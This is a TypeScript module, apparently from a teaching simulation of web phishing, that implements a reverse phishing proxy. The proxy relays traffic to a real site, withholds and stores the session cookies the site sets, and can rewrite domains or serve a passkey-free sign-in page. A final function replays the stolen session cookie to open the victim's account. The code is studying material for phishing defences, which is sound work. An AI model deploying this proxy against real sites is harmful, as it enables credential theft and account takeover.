/** The phishing proxy: a site that looks like the app because it is the app, handed on line by line. */
import { type HeaderLine, type HttpHandler, headers, html } from '../../http/index.ts'
import type { ServerGlobals } from '../../simulation/index.ts'
import { downgradedPage } from './pages.ts'

/** How the proxy goes about it. */
export interface ProxyConfig {
  /** URL origin of the site that it hands on. */
  readonly site: string
  /** `rewrites` puts its own domain in the place of the site’s; `downgrades` shows a sign-in page without a passkey. */
  readonly mode: 'relays' | 'rewrites' | 'downgrades'
}

/** What the proxy does with what it sees. */
export interface ProxyPorts {
  /** Sends a request on, as it is. */
  readonly send: HttpHandler
  /** Keeps the cookies that the site sets: the browser of the victim never gets them. */
  readonly jar: Map<string, string>
}

/** Hands every request on, and every answer back. */
export function createProxy({ send, jar }: ProxyPorts, { site, mode }: ProxyConfig): HttpHandler {
  // #region proxy
  return async (request) => {
    const { pathname, search, host } = new URL(request.url)
    if (mode === 'downgrades' && jar.size === 0 && request.method === 'GET') return html(200, downgradedPage())

    const { host: siteHost } = new URL(site)
    const contentType = headers(request, 'content-type').map((value): HeaderLine => ['content-type', value])
    const cookie = [...jar].map(([name, value]) => `${name}=${value}`).join('; ')
    const answer = await send({
      ...request,
      url: `${site}${pathname}${search}`,
      headers: [['host', siteHost], ...contentType, ...(cookie === '' ? [] : [['cookie', cookie] as const])],
    })

    for (const line of headers(answer, 'set-cookie')) {
      const [name = '', value = ''] = line.split(';', 1)[0]?.split('=') ?? []
      if (value === '') jar.delete(name)
      else jar.set(name, value)
    }
    return {
      ...answer,
      headers: answer.headers.filter(([name]) => name !== 'set-cookie'),
      body: mode === 'rewrites' ? answer.body.replaceAll(siteHost, host) : answer.body,
    }
  }
  // #endregion
}

/** Opens the account from the attacker’s own computer, with the session that the victim has signed in to. */
export async function openAccount({ fetch }: ServerGlobals, site: string, session: string): Promise<string> {
  // #region stolen-session
  const response = await fetch(`${site}/`, { headers: { cookie: `__Host-session=${session}` } })
  return response.text()
  // #endregion
}
